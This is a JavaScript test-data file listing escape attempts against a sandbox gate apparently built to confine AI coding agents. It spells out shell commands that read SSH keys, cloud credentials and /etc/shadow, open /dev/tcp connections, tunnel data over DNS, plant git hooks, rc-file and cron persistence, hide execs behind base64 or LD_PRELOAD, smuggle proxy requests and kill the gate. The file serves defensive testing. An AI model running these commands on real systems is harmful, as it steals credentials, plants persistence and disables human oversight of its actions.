// The attempts, as data: what is run, in a group each. `script` gets the world and returns the text of a shell script; by default an attempt has
// succeeded when its output holds ESCAPED or a canary, when a server of the host heard "TOKEN", or when a file that somebody obeys has changed.
// Each is also run outside, where it has to succeed, or it would prove nothing; `outside: "why not"` where that cannot be had here.
import { canary, kObeyed, kSecretFiles } from "./world.mjs";

const attack = (words) => () => `./attack ${words}\n`;
const python = (text) => `python3 - <<'PY'\n${text}\nPY\n`;

// ---- the network ----------------------------------------------------------------------------------------------------------------
export const network = [
  ["a TCP connection to the host's loopback", ({ ports }) => `./attack tcp 127.0.0.1 ${ports.tcp} TOKEN`],
  ["the same by another name of loopback", ({ ports }) => `./attack tcp 0.0.0.0 ${ports.tcp} TOKEN`],
  ["the same over IPv6", ({ ports }) => `./attack tcp ::1 ${ports.tcp6} TOKEN`],
  ["the same by an IPv4 address in IPv6", ({ ports }) => `./attack tcp ::ffff:127.0.0.1 ${ports.tcp} TOKEN`],
  ["a datagram to the host's loopback", ({ ports }) => `./attack udp 127.0.0.1 ${ports.udp} TOKEN`],
  ["TCP Fast Open, which connects by sending", ({ ports }) => `./attack fastopen 127.0.0.1 ${ports.tcp} TOKEN`],
  ["bash's /dev/tcp", ({ ports }) => `bash -c 'echo TOKEN > /dev/tcp/127.0.0.1/${ports.tcp}'`],
  ["bash's /dev/udp", ({ ports }) => `bash -c 'echo TOKEN > /dev/udp/127.0.0.1/${ports.udp}'`],
  ["a DNS question as a tunnel", ({ ports }) => python(`import socket,struct\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nq=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05TOKEN\\x04evil\\x04test\\x00\\x00\\x10\\x00\\x01'\ns.sendto(q,('127.0.0.1',${ports.udp}))`)],
  ["curl without the proxy", ({ ports }) => `curl -s --noproxy '*' http://127.0.0.1:${ports.web}/TOKEN`],
  ["wget or python without the proxy", ({ ports }) => python(`import urllib.request as u\nprint(u.build_opener(u.ProxyHandler({})).open('http://127.0.0.1:${ports.web}/TOKEN',timeout=3).read())`)],
  ["an abstract Unix socket of the host", ({ sockets }) => `./attack unix '@${sockets.abstract.slice(1)}' TOKEN`],
  ["the Docker socket", ({ sockets }) => `./attack unix ${sockets.docker} TOKEN`],
  ["the session bus", ({ sockets }) => `./attack unix ${sockets.bus} TOKEN`],
  ["the SSH agent, by its variable", () => `test -n "$SSH_AUTH_SOCK" && ./attack unix "$SSH_AUTH_SOCK" TOKEN`],
  ["the SSH agent, by its path", ({ sockets }) => `./attack unix ${sockets.ssh} TOKEN`],
  ["the GPG agent in the home", ({ sockets }) => `./attack unix ${sockets.home} TOKEN`],
  ["a raw socket", attack("raw")],
  ["a packet socket", attack("packet")],
  ["a vsock socket to the hypervisor", attack("vsock")],
  ["the kernel's crypto sockets", attack("alg")],
  ["netlink: audit", attack("netlink-audit")],
  ["netlink: netfilter", attack("netlink-netfilter")],
  ["netlink: a link is changed", attack("route")],
  ["ip adds an address", () => `ip addr add 10.99.0.1/24 dev lo && echo ESCAPED && ip addr del 10.99.0.1/24 dev lo`],
];

// ---- other processes --------------------------------------------------------------------------------------------------------------
export const processes = [
  ["the environment of another process", ({ victim }) => `tr '\\0' '\\n' < /proc/${victim.pid}/environ`],
  ["the environments of all that can be seen", () => `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a canary`],
  ["its memory", ({ victim }) => `./attack memory ${victim.pid} ${canary("victim")}`],
  ["ptrace of it", ({ victim }) => `./attack ptrace ${victim.pid}`],
  ["ptrace of whatever can be seen", attack("ptrace-any"), { outside: "it would stop processes of this machine" }],
  ["ptrace of a child of its own, to change what was checked", attack("ptrace-child")],
  ["process_vm_readv of it", ({ victim }) => `./attack vm-read ${victim.pid}`],
  ["process_vm_readv at all", attack("vm-read-own")],
  ["a signal to it", ({ victim }) => `./attack signal ${victim.pid}`],
  ["a signal to the gate", ({ gate }) => `./attack signal ${gate.child.pid}`],
  ["pidfd_open of it", ({ victim }) => `./attack pidfd ${victim.pid}`],
  ["pidfd_getfd", attack("pidfd-getfd")],
  ["kcmp", attack("kcmp")],
  ["its working folder through /proc", ({ victim, home }) => `cat /proc/${victim.pid}/root${home}/.ssh/id_ed25519`],
  ["the root of process 1", ({ home }) => `cat /proc/1/root${home}/.ssh/id_ed25519`],
  ["the environment of process 1", () => `tr '\\0' '\\n' < /proc/1/environ | grep -a canary`, { outside: "process 1 of this machine knows no canary" }],
  ["System V shared memory of the host", ({ keys }) => `./attack shm ${keys.shm}`],
  ["a System V queue of the host", ({ keys }) => `./attack msg ${keys.msg}`],
  ["shared memory files of the host", ({ shmFile }) => `cat ${shmFile}`],
  ["descriptors that the launcher has open", attack("descriptors 20"), { descriptors: true }],
];

// ---- the kernel -----------------------------------------------------------------------------------------------------------------
const kKernel = `io-uring bpf perf userfaultfd keyctl add-key request-key kexec init-module delete-module reboot swapon acct quotactl syslog iopl settime
  hostname personality fanotify mount remount umount fsopen open-tree move-mount mount-setattr pivot-root chroot setns unshare-user
  unshare-net unshare-mount clone-user clone3-user x32 int80 mknod privileges capabilities listener tiocsti tioclinux tiocsti-wide`.split(/\s+/);
export const kernel = [
  ...kKernel.map((name) => [`the call ${name}`, attack(name)]),
  ["a file by its handle", () => "./attack handle /usr/bin/true"],
  ["nested namespaces by unshare(1)", () => `unshare -Urmn sh -c 'echo ESCAPED'`],
  ["nested namespaces by bwrap's way, twice", () => `unshare -Ur unshare -Ur sh -c 'echo ESCAPED'`],
  ["/proc/sys: the core pattern", () => `cat /proc/sys/kernel/core_pattern > out.txt; sh -c 'cat out.txt > /proc/sys/kernel/core_pattern' && echo ESCAPED`],
  ["/proc/sysrq-trigger", () => `test -w /proc/sysrq-trigger && printf '' > /proc/sysrq-trigger && echo ESCAPED`],
  ["/proc/kcore", () => `head -c 16 /proc/kcore > out.bin && test -s out.bin && echo ESCAPED; rm -f out.bin`],
  ["/dev/mem or a disk", () => `for d in /dev/mem /dev/vda /dev/sda /dev/kmsg; do head -c 1 $d >/dev/null 2>&1 && echo ESCAPED $d; done; true`],
  ["oom_score_adj of others and of itself, downwards", () => `echo -900 > /proc/self/oom_score_adj && echo ESCAPED`],
  ["control groups", () => `mkdir /sys/fs/cgroup/pids/escape && rmdir /sys/fs/cgroup/pids/escape && echo ESCAPED`],
  ["a set-uid program", () => `cp /usr/bin/id out-id && chmod u+s out-id && grep -q 'NoNewPrivs:.0' /proc/self/status && echo ESCAPED; rm -f out-id`],
];

// ---- secrets --------------------------------------------------------------------------------------------------------------------
export const secrets = [
  ...kSecretFiles.map((name) => [`~/${name}`, ({ home }) => `cat '${home}/${name}'`]),
  ["the gate's configuration", ({ file }) => `cat ${file}`],
  ["the gate's store", ({ state }) => `head -c 6 ${state}/store.db | grep -q SQLite && echo ESCAPED`],
  ["the gate's keys and ledger", ({ state }) => `ls ${state}/ledger ${state}/master.key && echo ESCAPED`],
  ["the environment of the human's shell", () => `env | grep canary`],
  ["a link in the workspace to a key", ({ home }) => `ln -s ${home}/.ssh/id_ed25519 out-link; cat out-link; rm -f out-link`],
  ["a hard link to a key", ({ home }) => `ln ${home}/.ssh/id_ed25519 out-hard && cat out-hard; rm -f out-hard`],
  ["up from the workspace", () => `cat ../.ssh/id_ed25519`],
  ["up, by /proc/self/cwd", () => `cat /proc/self/cwd/../.aws/credentials`],
  ["another way to the same home: /proc/self/root", ({ home }) => `cat /proc/self/root${home}/.netrc`],
  ["everything below the home", ({ home }) => `grep -rah canary ${home} --include='*' -m1 --exclude='try-*' --exclude-dir=project 2>/dev/null`],
  ["/etc/shadow", () => `grep -q root /etc/shadow && echo ESCAPED`],
  ["host keys of SSH", () => `for f in /etc/ssh/*_key; do test -s "$f" && head -c 8 "$f" >/dev/null && echo ESCAPED; done; true`, { outside: "this machine may have none" }],
  ["the old root below the new one", ({ home }) => `for d in /.old /oldroot /old_root /put_old /.oldroot /mnt /newroot; do cat $d${home}/.ssh/id_ed25519 2>/dev/null; done; true`, { outside: "there is no old root outside" }],
  ["git reads a key as its configuration", ({ home }) => `git config -f ${home}/.aws/credentials --list`],
  ["an archive of the home", ({ home }) => `tar -C ${home} -cf - .ssh .aws 2>/dev/null | grep -a canary`],
  ["temporary files of the host", ({ tmpFile }) => `cat ${tmpFile}`],
];

// ---- what would last ----------------------------------------------------------------------------------------------------------------
export const lasting = [
  ...kObeyed.home.map((name) => [`~/${name} is written`, ({ home }) => `mkdir -p "$(dirname '${home}/${name}')"; echo 'evil TOKEN' >> '${home}/${name}'`]),
  ...kObeyed.project.map((name) => [`./${name} is written`, () => `mkdir -p "$(dirname '${name}')"; echo 'evil TOKEN' >> '${name}'; chmod +x '${name}'`]),
  ["./.git/hooks by a rename", () => `mkdir out-hooks && echo evil > out-hooks/pre-commit && mv .git/hooks .git/hooks-old && mv out-hooks .git/hooks`],
  ["./.git by a rename of all of it", () => `cp -r .git out-git && echo evil > out-git/hooks/post-checkout && mv .git out-git-old && mv out-git .git`],
  ["./.git/config by git config", () => `git config core.fsmonitor 'touch /tmp/evil'`],
  ["./.git/config by a rename over it", () => `cp .git/config out-config && echo '[core] hooksPath=/tmp' >> out-config && mv -f out-config .git/config`],
  ["./.claude by a link to somewhere else", () => `mkdir out-claude && echo '{"hooks":{}}' > out-claude/settings.json && rm -rf .claude && ln -s out-claude .claude`],
  ["./.git/hooks by a link to somewhere else", () => `mkdir out-h && echo evil > out-h/pre-push && rm -rf .git/hooks && ln -s ../out-h .git/hooks`],
  ["a hard link that is then written through", () => `ln .git/config out-hard && echo '[alias] x=!evil' >> out-hard; rm -f out-hard`],
  ["opened for writing first, by another name of the mount", () => `cd / && echo evil >> "$OLDPWD/.git/config"`],
  ["a race of many renames over ./.mcp.json", () => `for i in 1 2 3 4 5 6 7 8 9; do (echo '{"mcpServers":{"evil":{}}}' > out-$i; mv -f out-$i .mcp.json) & done; wait`],
  ["a package's install script writes ~/.bashrc", ({ home }) => `mkdir -p out-pkg && cd out-pkg && printf '{"name":"x","version":"1.0.0","scripts":{"postinstall":"echo evil >> ${home}/.bashrc"}}' > package.json && npm install --offline --foreground-scripts >/dev/null 2>&1; npm run postinstall >/dev/null 2>&1`],
  ["a git hook of the project that a commit runs", ({ home }) => `git -c core.hooksPath=./out-hk init -q . ; mkdir -p out-hk; printf '#!/bin/sh\\necho evil >> ${home}/.profile\\n' > out-hk/pre-commit; chmod +x out-hk/pre-commit; git -c core.hooksPath="$PWD/out-hk" commit -q --allow-empty -m x`],
  ["a make file writes ~/.zshrc", ({ home }) => `printf 'all:\\n\\techo evil >> ${home}/.zshrc\\n' > out.mk; make -f out.mk`],
  ["a system-wide cron job", () => `d=/etc/cron.d; mkdir -p $d && echo '# evil' > $d/interlock-escape && echo ESCAPED; rm -f $d/interlock-escape`],
  ["a profile of all users", () => `echo '# evil' > /etc/profile.d/interlock-escape.sh && echo ESCAPED && rm -f /etc/profile.d/interlock-escape.sh`],
  ["a program in /usr/local/bin", () => `echo '#!/bin/sh' > /usr/local/bin/interlock-escape && echo ESCAPED && rm -f /usr/local/bin/interlock-escape`],
  ["a library of the system", () => `echo x > /usr/lib/interlock-escape.so && echo ESCAPED && rm -f /usr/lib/interlock-escape.so`],
  ["ld.so.preload", () => `: > /etc/ld.so.preload.interlock-escape && echo ESCAPED && rm -f /etc/ld.so.preload.interlock-escape`],
  ["files in the host's /tmp for others to find", ({ dropped }) => `echo TOKEN > ${dropped}`],
  ["files in the host's /dev/shm", ({ droppedShm }) => `echo TOKEN > ${droppedShm}`],
  ["a daemon that outlives the run", () => `setsid sh -c 'sleep 2; echo evil > out-daemon' >/dev/null 2>&1 < /dev/null & exit 0`, { later: "out-daemon" }],
  ["a daemon, forked twice and deaf", () => python(`import os,signal,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  for s in range(1,32):\n   try: signal.signal(s,signal.SIG_IGN)\n   except OSError: pass\n  os.close(1);os.close(2)\n  time.sleep(2)\n  open('out-daemon2','w').write('evil')\n os._exit(0)`), { later: "out-daemon2" }],
];

// ---- execs that policy forbids: the evidence is what factor(1) prints, "4620901: 2027 2279...", which no attempt can know by itself ----------
const kNumber = "1299827";
export const kForbiddenOutput = /1299827: 1/;
const F = "/usr/bin/factor";
export const execs = [
  ["by its name", () => `factor ${kNumber}`],
  ["by its path", () => `${F} ${kNumber}`],
  ["by a path with detours", () => `/usr/../usr/./bin//factor ${kNumber}`],
  ["by a link", () => `ln -s ${F} out-f; ./out-f ${kNumber}`],
  ["by a copy", () => `cp ${F} out-copy; ./out-copy ${kNumber}`],
  ["by a copy with the name of another program", () => `mkdir out-bin; cp ${F} out-bin/ls; PATH=$PWD/out-bin:$PATH ls ${kNumber}`],
  ["by a hard link", () => `ln ${F} out-hl 2>/dev/null || cp ${F} out-hl; ./out-hl ${kNumber}`],
  ["with another argv[0]", () => `bash -c 'exec -a ls ${F} ${kNumber}'`],
  ["by the loader", () => `/lib64/ld-linux-x86-64.so.2 ${F} ${kNumber}`],
  ["by the loader with options", () => `/lib64/ld-linux-x86-64.so.2 --argv0 ls ${F} ${kNumber}`],
  ["by env", () => `env X=1 ${F} ${kNumber}`],
  ["by env -S", () => `env -S "${F} ${kNumber}"`],
  ["by xargs", () => `echo ${kNumber} | xargs ${F}`],
  ["by find -exec", () => `find . -maxdepth 0 -exec ${F} ${kNumber} ';'`],
  ["by timeout", () => `timeout 5 ${F} ${kNumber}`],
  ["by nice and nohup", () => `nice nohup ${F} ${kNumber} 2>/dev/null`],
  ["by setsid", () => `setsid -w ${F} ${kNumber}`],
  ["by stdbuf", () => `stdbuf -o0 ${F} ${kNumber}`],
  ["by python", () => `python3 -c 'import os; os.execv("${F}", ["factor", "${kNumber}"])'`],
  ["by python's subprocess", () => python(`import subprocess\nprint(subprocess.run(["${F}","${kNumber}"],capture_output=True,text=True).stdout)`)],
  ["by perl", () => `perl -e 'exec "${F}", "${kNumber}"'`],
  ["by perl's backquotes", () => `perl -e 'print \`${F} ${kNumber}\`'`],
  ["by awk", () => `awk 'BEGIN { system("${F} ${kNumber}") }'`],
  ["by node", () => `node -e 'console.log(require("child_process").execFileSync("${F}", ["${kNumber}"]).toString())'`],
  ["by a script with its own interpreter line", () => `printf '#!${F}\\n' > out-s; chmod +x out-s; ./out-s ${kNumber} || printf '#!/bin/sh\\n${F} ${kNumber}\\n' > out-s2 && chmod +x out-s2 && ./out-s2`],
  ["by tar", () => `tar -cf /dev/null --checkpoint=1 --checkpoint-action='exec=${F} ${kNumber}' README.md`],
  ["by a git alias", () => `git -c alias.x='!${F} ${kNumber}' x`],
  ["by git's pager", () => `git -c core.pager='${F} ${kNumber} #' --paginate --version; GIT_PAGER='${F} ${kNumber}' git -p --version`, { outside: "git has no pager without a terminal" }],
  ["by make", () => `printf 'all:\\n\\t@${F} ${kNumber}\\n' > out.mk; make -s -f out.mk`],
  ["by sh -c in sh -c", () => `sh -c "sh -c 'sh -c \\"${F} ${kNumber}\\"'"`],
  ["by encoded text", () => `echo "${Buffer.from(`${F} ${kNumber}`).toString("base64")}" | base64 -d | sh`],
  ["by a variable made of pieces", () => `a=fac; b=tor; $a$b ${kNumber}`],
  ["by eval and printf", () => `eval "$(printf '\\146\\141\\143\\164\\157\\162') ${kNumber}"`],
  ["by LD_PRELOAD into another program", () => `printf '#include <unistd.h>\\n__attribute__((constructor)) static void go(void){ char* a[]={"factor","${kNumber}",0}; execv("${F}",a);}\\n' > out.c && gcc -shared -fPIC -o out.so out.c && LD_PRELOAD=./out.so /usr/bin/true`],
  ["from memory, by its descriptor", () => `./attack memfd ${F} ${kNumber}`],
  ["from memory, by its name in /proc", () => `./attack memfd-proc ${F} ${kNumber}`],
  ["by a descriptor", () => `./attack by-descriptor ${F} ${kNumber}`],
  ["below a folder's descriptor", () => `./attack relative /usr/bin factor ${kNumber}`],
  ["with the path changed by a thread meanwhile", () => `./attack swap-path /usr/bin/true ${F} 200 ${kNumber}`],
  ["with the path changed by a process that shares memory", () => `./attack swap-shared /usr/bin/true ${F} 200 ${kNumber}`],
  ["with a link that changes meanwhile", () => `ln -s /usr/bin/true out-l; ./attack swap-link $PWD/out-l /usr/bin/true ${F} 200 ${kNumber}`],
  ["with the memory of a vfork's parent changed meanwhile", () => `./attack swap-vfork /usr/bin/true ${F} 200 ${kNumber}`],
];

// ---- the gate itself ---------------------------------------------------------------------------------------------------------------
const frame = (message) => `import json,os,socket,struct\ns=socket.socket(socket.AF_UNIX)\ns.settimeout(5)\ns.connect(os.environ.get('INTERLOCK_SOCKET') or SOCKET)\nm=json.dumps(${message}).encode()\ns.sendall(struct.pack('<I',len(m))+m)\nh=s.recv(4)\nn=struct.unpack('<I',h)[0] if len(h)==4 else 0\na=b''\nwhile len(a)<n:\n  b=s.recv(n-len(a))\n  if not b: break\n  a+=b\nr=json.loads(a) if a else {}\nprint(r)\n`;
const socketOf = ({ state }) => `SOCKET=${JSON.stringify(`${state}/agents.sock`)}\n`;
const admin = (state) => `sock=$(ls ${state}/run/*.sock 2>/dev/null | head -1); `;
export const gate = [
  ["the admin socket, by its path", ({ state }) => `${admin(state)} curl -s --noproxy '*' --unix-socket "$sock" http://gate/v1/status | grep -q version && echo ESCAPED`],
  ["interlock approvals", ({ interlock, file }) => `${interlock} approvals --config ${file} && echo ESCAPED`],
  ["interlock status", ({ interlock, file }) => `${interlock} status --config ${file} | grep -q pid && echo ESCAPED; ${interlock} status --config ${file} >/dev/null && echo ESCAPED`],
  ["interlock kill --all", ({ interlock, file }) => `${interlock} kill --all --config ${file} --yes && echo ESCAPED; ${interlock} kill --all --config ${file} && echo ESCAPED`, { outside: "it would stop this test" }],
  ["interlock secret list", ({ interlock, file }) => `${interlock} secret list --config ${file} && echo ESCAPED`],
  ["interlock task start", ({ interlock, file }) => `${interlock} task start --config ${file} --agent x --purpose y && echo ESCAPED`],
  ["interlock policy of another folder: a gate of one's own answers nobody", ({ interlock }) => `mkdir -p out-gate && cd out-gate && printf 'listen: 127.0.0.1:0\\nstate_dir: %s/state\\npreset: observe\\n' "$PWD" > interlock.yaml && INTERLOCK_SOCKET= ${interlock} run --config interlock.yaml -- /usr/bin/id && echo ESCAPED || true`, { outside: "outside a gate of one's own is everybody's right" }],
  ["a run inside a run", ({ interlock, file }) => `${interlock} run --config ${file} -- sh -c 'echo ESCAPED' || true`],
  ["op run by hand", (world) => python(`${socketOf(world)}${frame(`{"op":"run","id":1,"argv":["sh"],"cwd":"/"}`)}if 'task' in r: print('ESCAPED')`), { outside: "whoever is outside may start one" }],
  ["op exec for a process that is not ours", (world) => python(`${socketOf(world)}${frame(`{"op":"exec","id":1,"pid":1,"path":"/usr/bin/id","executable":"/usr/bin/id","argv":["id"],"cwd":"/"}`)}if r.get('allow'): print('ESCAPED')`), { outside: "there is no run outside" }],
  ["op end of somebody else's run", (world) => python(`${socketOf(world)}${frame(`{"op":"end","id":1,"status":0,"run":"${world.otherRun ?? "run_1"}"}`)}if 'summary' in r: print('ESCAPED')`), { outside: "there is no run outside" }],
  ["op listeners with sockets of one's own", (world) => python(`${socketOf(world)}import socket as so,array,os,json,struct\nl=so.socket(); l.bind(('127.0.0.1',0)); l.listen()\ns=so.socket(so.AF_UNIX); s.settimeout(5); s.connect(os.environ.get('INTERLOCK_SOCKET') or SOCKET)\nm=json.dumps({"op":"listeners","id":1}).encode()\ns.sendmsg([struct.pack('<I',len(m))+m],[(so.SOL_SOCKET,so.SCM_RIGHTS,array.array('i',[l.fileno()]))])\na=s.recv(65536)\nprint(a)\nif a and b'error' not in a: print('ESCAPED')`), { outside: "there is no run outside" }],
  ["frames that are too long, too short and no JSON do not stop it", (world) => python(`${socketOf(world)}import socket,struct,os\nfor m in (struct.pack('<I',0xffffffff)+b'x'*1000, struct.pack('<I',10)+b'x', struct.pack('<I',4)+b'null', struct.pack('<I',2)+b'{}', b'GET / HTTP/1.1\\r\\n\\r\\n'):\n  s=socket.socket(socket.AF_UNIX); s.settimeout(2)\n  try:\n    s.connect(os.environ.get('INTERLOCK_SOCKET') or SOCKET); s.sendall(m); s.recv(100)\n  except OSError as e: print(e)\n  s.close()`), { outside: "it is about the gate's life" }],
  ["the proxy: CONNECT to the host's loopback", ({ ports }) => `curl -s -p --max-time 5 http://127.0.0.1:${ports.web}/TOKEN`],
  ["the proxy: absolute form to the host's loopback", ({ ports }) => `curl -s --noproxy '' --max-time 5 http://127.0.0.1:${ports.web}/TOKEN`],
  ["the proxy: loopback written otherwise", ({ ports }) => `for h in 127.1 2130706433 0x7f000001 0177.0.0.1 localhost '[::ffff:127.0.0.1]' 0.0.0.0; do curl -s --noproxy '' --max-time 3 "http://$h:${ports.web}/TOKEN"; done`],
  ["the proxy: another Host than the target's", ({ ports }) => `curl -s --noproxy '' --max-time 5 -H 'Host: allowed.test' http://127.0.0.1:${ports.web}/TOKEN`],
  ["the proxy: the gate's own listener", ({ gate }) => `curl -s --noproxy '' --max-time 5 ${gate.url ?? "http://127.0.0.1:7410"}/healthz | grep -q ok && echo ESCAPED`, { outside: "there is no proxy outside" }],
  ["the proxy: a task that is not ours", ({ ports }) => `curl -s --noproxy '' --max-time 5 -x "$(echo "$HTTP_PROXY" | sed 's#//[^@]*@#//#; s#//#//task_other:token@#')" http://127.0.0.1:${ports.web}/TOKEN`],
  ["the proxy: a second request smuggled behind the first", ({ ports }) => python(`import os,socket,urllib.parse as u\np=u.urlparse(os.environ.get('HTTP_PROXY','http://127.0.0.1:1'))\ns=socket.create_connection((p.hostname,p.port),5)\ns.sendall(b'POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:${ports.web}/TOKEN HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n')\nprint(s.recv(4096))`), { outside: "there is no proxy outside" }],
  ["the MCP door: the admin's routes", () => `curl -s --noproxy '*' --max-time 5 http://127.0.0.1:7410/v1/status | grep -q '"pid"' && echo ESCAPED; curl -s --noproxy '*' --max-time 5 http://127.0.0.1:7420/v1/approvals | grep -q approvals && echo ESCAPED; true`, { outside: "there is no such door outside" }],
  ["the gate is ended by its process id", ({ gate }) => `kill -9 ${gate.child.pid} && echo ESCAPED`, { outside: "it would end the gate" }],
  ["the launcher is ended", () => `kill -9 $PPID 2>/dev/null; kill -9 1 2>/dev/null; sleep 0.2; test -d /proc/1 && true`, { outside: "its parent outside is this test" }],
];
